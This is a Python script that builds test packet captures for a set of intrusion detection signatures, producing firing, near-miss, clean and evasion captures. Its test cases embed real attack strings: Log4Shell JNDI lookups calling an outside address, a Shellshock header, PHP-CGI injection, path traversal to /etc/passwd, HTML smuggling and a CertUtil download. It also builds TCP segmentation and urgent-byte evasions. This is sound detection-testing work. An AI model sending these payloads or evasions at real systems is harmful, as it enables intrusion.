#!/usr/bin/env python3
"""captures.py OUT: writes a firing and a silent capture of each of our own signatures (rules/ips), and clean ones.

OUT/fire/SID.pcap must make exactly that signature speak, OUT/silent/SID.pcap is as near to it as honest traffic comes,
OUT/clean/NAME.pcap is ordinary traffic no signature may speak of (M-095), OUT/evade/SID-HOW.pcap is the attack in pieces a receiver puts
together and an inspection might not. Conversations are written as packets, both
directions, with checksums; times are made up and fixed, so the same script writes the same bytes.
Addresses: the body is 198.51.100.101, the Internet is 203.0.113.66."""
import pathlib
import socket
import struct
import sys

BODY, WORLD = "198.51.100.101", "203.0.113.66"


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


class Capture:
    def __init__(self):
        self.out = [struct.pack("<IHHiIII", 0xa1b2c3d4, 2, 4, 0, 0, 65535, 1)]
        self.time = 1764288000.0
        self.ident = 0

    def ip(self, src, dst, proto, payload):
        self.ident += 1
        head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), self.ident & 0xffff, 0x4000, 64, proto, 0,
                           socket.inet_aton(src), socket.inet_aton(dst))
        head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
        frame = b"\x02\0\0\0\0\x02\x02\0\0\0\0\x01\x08\0" + head + payload
        self.time += 0.001
        self.out.append(struct.pack("<IIII", int(self.time), int(self.time % 1 * 1e6), len(frame), len(frame)) + frame)

    def tcp(self, src, sport, dst, dport, seq, ack, flags, data=b"", urgent=0):
        pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, 20 + len(data))
        seg = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 0x50, flags, 65000, 0, urgent) + data
        self.ip(src, dst, 6, seg[:16] + struct.pack("!H", checksum(pseudo + seg)) + seg[18:])

    def udp(self, src, sport, dst, dport, data):
        self.ip(src, dst, 17, struct.pack("!HHHH", sport, dport, 8 + len(data), 0) + data)

    def echo(self, src, dst, size):
        body = struct.pack("!BBHHH", 8, 0, 0, 7, 1) + b"a" * size
        self.ip(src, dst, 1, body[:2] + struct.pack("!H", checksum(body)) + body[4:])

    def talk(self, client, sport, server, dport, turns):
        """turns: (from_client, bytes); a whole connection around them."""
        c, s = 1000, 9000
        self.tcp(client, sport, server, dport, c, 0, 2)
        self.tcp(server, dport, client, sport, s, c + 1, 0x12)
        c, s = c + 1, s + 1
        self.tcp(client, sport, server, dport, c, s, 0x10)
        for from_client, data in turns:
            for i in range(0, len(data), 1400):
                part = data[i:i + 1400]
                if from_client:
                    self.tcp(client, sport, server, dport, c, s, 0x18, part)
                    c += len(part)
                    self.tcp(server, dport, client, sport, s, c, 0x10)
                else:
                    self.tcp(server, dport, client, sport, s, c, 0x18, part)
                    s += len(part)
                    self.tcp(client, sport, server, dport, c, s, 0x10)
        self.tcp(client, sport, server, dport, c, s, 0x11)
        self.tcp(server, dport, client, sport, s, c + 1, 0x11)
        self.tcp(client, sport, server, dport, c + 1, s + 1, 0x10)

    def bytes(self):
        return b"".join(self.out)


def request(method="GET", target="/", headers="", body=b""):
    length = "Content-Length: %d\r\n" % len(body) if body else ""
    return ("%s %s HTTP/1.1\r\nHost: www.city.example\r\n%s%s\r\n" % (method, target, headers, length)).encode() + body


def answer(body=b"<p>ok</p>", kind="text/html"):
    return ("HTTP/1.1 200 OK\r\nContent-Type: %s\r\nContent-Length: %d\r\n\r\n" % (kind, len(body))).encode() + body


def inbound(*args, **kw):
    c = Capture()
    c.talk(WORLD, 40001, BODY, 80, [(True, request(*args, **kw)), (False, answer())])
    return c


def outbound(req, ans):
    c = Capture()
    c.talk(BODY, 40001, WORLD, 80, [(True, req), (False, ans)])
    return c


def page(body, kind="text/html"):
    return outbound(request(headers="User-Agent: Mozilla/5.0\r\n"), answer(body, kind))


def knocks(port, n):
    c = Capture()
    for i in range(n):
        c.tcp(WORLD, 40000 + i, BODY, port, 1000, 0, 2)
        c.tcp(BODY, port, WORLD, 40000 + i, 0, 1001, 0x14)
    return c


def echoes(size, n):
    c = Capture()
    for _ in range(n):
        c.echo(BODY, WORLD, size)
    return c


PROGRAM = b"MZ\x90\0" + b"\0" * 70 + b"This program cannot be run in DOS mode.\r\r\n$" + b"\0" * 200
SMUGGLE = b"<script>var d=atob('TVqQAAMAAAA=');navigator.msSaveOrOpenBlob(new Blob([d]),'a.zip')</script>"
POST = "Content-Type: application/x-www-form-urlencoded\r\n"

CASES = {  # sid: (fires, stays silent)
    9100001: (inbound(target="/?q=${JnDi:ldap://203.0.113.66/a}"), inbound(target="/?q=${java:version}+jndi:")),
    9100002: (inbound(headers="User-Agent: ${jndi:ldap://203.0.113.66/a}\r\n"), inbound(headers="X-Note: jndi: {a}\r\n")),
    9100003: (inbound(headers="User-Agent: () { :;}; /bin/id\r\n"), inbound(headers="X-Code: f() { return 1 }\r\n")),
    9100004: (inbound(target="/index.php?%ADd+allow_url_include%3d1"), inbound(target="/index.php?q=soft%ADhyphen")),
    9100005: (inbound(target="/cgi-bin/%2e%2e/%2e%2e/etc/passwd"), inbound(target="/manual/etc/passwd.html")),
    9100006: (inbound(method="POST", headers=POST, body=b"c=eval(base64_decode('aWQ='));"),
              inbound(method="POST", headers=POST, body=b"q=what+does+base64_decode()+do")),
    9100007: (knocks(3389, 6), knocks(3389, 3)),
    9100008: (page(SMUGGLE), page(b"<script>var d=atob('aGVsbG8=');document.title=d</script>")),
    9100009: (page(PROGRAM, "image/png"), page(PROGRAM, "application/octet-stream")),
    9100010: (outbound(request(target="/tool.exe", headers="User-Agent: CertUtil URL Agent\r\n"), answer(b"x", "text/plain")),
              outbound(request(target="/update.cab", headers="User-Agent: Microsoft BITS/7.8\r\n"), answer(b"x", "text/plain"))),
    9100011: (outbound(request("POST", "/up", body=b"-----BEGIN RSA PRIVATE KEY-----\nMIIE"), answer()),
              outbound(request("POST", "/up", body=b"-----BEGIN CERTIFICATE-----\nMIIE"), answer())),
    9100012: (echoes(1000, 12), echoes(1000, 4)),
}


def dns(name, ident):
    q = struct.pack("!HHHHHH", ident, 0x100, 1, 0, 0, 0)
    return q + b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack("!HH", 1, 1)


def clean():
    browse, mail, names, ping = Capture(), Capture(), Capture(), echoes(56, 20)
    for i in range(40):
        kind, body = (("text/html", b"<html>" + b"<p>text</p>" * 300), ("image/png", b"\x89PNG\r\n\x1a\n" + b"\1\2\3" * 3000),
                      ("application/zip", b"PK\3\4" + b"\5" * 5000), ("application/octet-stream", PROGRAM))[i % 4]
        browse.talk(BODY, 41000 + i, WORLD, 80, [(True, request(target="/%d" % i, headers="User-Agent: Mozilla/5.0\r\n")),
                                                 (False, answer(body, kind))])
        browse.talk(WORLD, 42000 + i, BODY, 80, [(True, request(target="/kurashi/%d.html?a=%%E4%%BD%%90" % i)), (False, answer())])
        names.udp(BODY, 43000 + i, WORLD, 53, dns("www%d.news.example" % i, i))
    mail.talk(BODY, 44000, WORLD, 25, [(False, b"220 mx\r\n"), (True, b"EHLO city\r\n"), (False, b"250 ok\r\n"),
                                       (True, b"MAIL FROM:<a@city.example>\r\n"), (False, b"250 ok\r\n"),
                                       (True, b"RCPT TO:<b@news.example>\r\n"), (False, b"250 ok\r\n"), (True, b"DATA\r\n"),
                                       (False, b"354 go\r\n"), (True, b"Subject: hello\r\n\r\nhello\r\n.\r\n"), (False, b"250 ok\r\n")])
    return {"browse": browse, "mail": mail, "names": names, "ping": ping}


def in_pieces(order):
    """order: of the pieces (sequence offset, bytes, urgent) of one request, as they are sent."""
    c, size = Capture(), max(at + len(data) for at, data, _ in order)
    c.tcp(WORLD, 45001, BODY, 80, 1000, 0, 2)
    c.tcp(BODY, 80, WORLD, 45001, 9000, 1001, 0x12)
    c.tcp(WORLD, 45001, BODY, 80, 1001, 9001, 0x10)
    for at, data, urgent in order:
        c.tcp(WORLD, 45001, BODY, 80, 1001 + at, 9001, 0x38 if urgent else 0x18, data, urgent)
    c.tcp(BODY, 80, WORLD, 45001, 9001, 1001 + size, 0x18, answer())
    c.tcp(WORLD, 45001, BODY, 80, 1001 + size, 9001 + len(answer()), 0x10)
    return c


def evade():
    attack = request(target="/?q=${jndi:ldap://203.0.113.66/a}")
    cut = attack.index(b"di:ldap")
    head, tail = (0, attack[:cut], 0), (cut, attack[cut:], 0)
    return {"9100001-split": in_pieces([(i, attack[i:i + 1], 0) for i in range(len(attack))]),
            "9100001-late": in_pieces([tail, head]),
            # the receiver takes the urgent byte out of the stream (RFC 6093 section 3)
            "9100001-urgent": in_pieces([head, (cut, b"X", 1), (cut + 1, attack[cut:], 0)])}


def main(out):
    for kind, i in (("fire", 0), ("silent", 1)):
        (out / kind).mkdir(parents=True, exist_ok=True)
        for sid, pair in CASES.items():
            (out / kind / ("%d.pcap" % sid)).write_bytes(pair[i].bytes())
    (out / "clean").mkdir(parents=True, exist_ok=True)
    (out / "evade").mkdir(parents=True, exist_ok=True)
    for kind, captures in (("clean", clean()), ("evade", evade())):
        for name, c in captures.items():
            (out / kind / (name + ".pcap")).write_bytes(c.bytes())


if len(sys.argv) != 2:
    sys.exit("usage: captures.py OUT")
main(pathlib.Path(sys.argv[1]))
